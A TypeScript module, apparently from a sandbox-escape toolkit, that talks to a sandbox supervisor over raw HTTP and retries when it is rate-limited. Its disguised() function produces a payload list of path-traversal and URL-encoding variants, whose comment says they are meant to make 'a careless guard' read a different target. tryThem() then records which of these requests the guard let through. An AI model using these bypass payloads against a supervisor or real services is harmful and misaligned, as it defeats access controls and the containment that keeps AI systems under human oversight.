import { setTimeout as wait } from 'node:timers/promises'
import type { Surroundings } from './escape.ts'
import { run, speak } from './tools.ts'

/** Where the supervisor listens; outside a sandbox there is no such door. */
export function link(): number {
  const { JIT_SANDBOX } = process.env
  if (!JIT_SANDBOX) throw new Error('there is no link')
  return Number(new URL(JIT_SANDBOX).port)
}

export interface Asked {
  readonly method?: string
  readonly target: string
  readonly headers?: readonly string[]
  readonly body?: string
}

/** One request, its target written as it is: no library tidies it up. */
export function ask({ method = 'GET', target, headers = [], body = '' }: Asked): Promise<string> {
  const lines = [
    `${method} ${target} HTTP/1.1`,
    ...(headers.some((line) => line.startsWith('Host:')) ? [] : ['Host: 127.0.0.1:7421']),
    'Connection: close',
    ...(body === '' ? [] : ['Content-Type: application/json', `Content-Length: ${body.length}`]),
    ...headers,
  ]
  return speak({ port: link(), say: `${lines.join('\r\n')}\r\n\r\n${body}`, patience: 2_000 })
}

/** Does it again while it is refused only because it is one too many at once. */
export async function patiently(attempt: () => Promise<string>): Promise<string> {
  for (let tries = 0; tries < 40; tries++) {
    const answer = await attempt().catch((error: Error) => error.message)
    if (!/^HTTP\/1\.1 429|^no line$/.test(answer)) return answer
    await wait(100)
  }
  throw new Error('too much at once')
}

export const askPatiently = (asked: Asked) => patiently(() => ask(asked))

export const accepted = (answer: string): boolean => /^HTTP\/1\.[01] (?:2|101)/m.test(answer)

/** The requests that were let through. @throws Error with the last refusal when none was */
export async function tryThem(requests: readonly Asked[]): Promise<string> {
  const tries: string[] = []
  let last = ''
  for (const request of requests) {
    const answer = await askPatiently(request)
    if (accepted(answer)) tries.push(`${request.method ?? 'GET'} ${request.target}: ${answer}`)
    else last = answer.split('\r\n')[0] ?? ''
  }
  if (tries.length === 0) throw new Error(last)
  return tries.join('\n')
}

/** The same target, written so that a careless guard reads another one. */
export function disguised(target: string): string[] {
  const [, first = '', rest = ''] = /^\/(\w+)(.*)$/.exec(target) ?? []
  return [
    ...[`//${first}${rest}`, `/./${first}${rest}`, `/x/../${first}${rest}`, `/%2e/${first}${rest}`],
    ...[`/v1/whoami/../..${target}`, `/v1/whoami/%2e%2e/%2e%2e${target}`, `/${first};x=y${rest}`],
    ...[
      `/v1/whoami;/../..${target}`,
      `/v1/whoami%2f..%2f..${target}`,
      `/v1/whoami\\..\\..${target}`,
    ],
    ...[`/v1/whoami?${target}`, `/v1/whoami#/../..${target}`, target.toUpperCase(), `${target}/`],
    ...[
      `http://127.0.0.1${target}`,
      `http://x@127.0.0.1:7421${target}`,
      `${target}%00`,
      `*${target}`,
    ],
    ...[encodeURI(`/${first}`) + rest.replace('/', '%2F'), `/${first}${rest.replace('/', '//')}`],
  ].filter((one) => !one.startsWith('/v1/whoami?') && !one.startsWith('/v1/whoami#'))
}

export const jit = ({ jit: [node, script] }: Surroundings, args: readonly string[], env = {}) =>
  run(node, [script, ...args], { env: { ...process.env, ...env } })
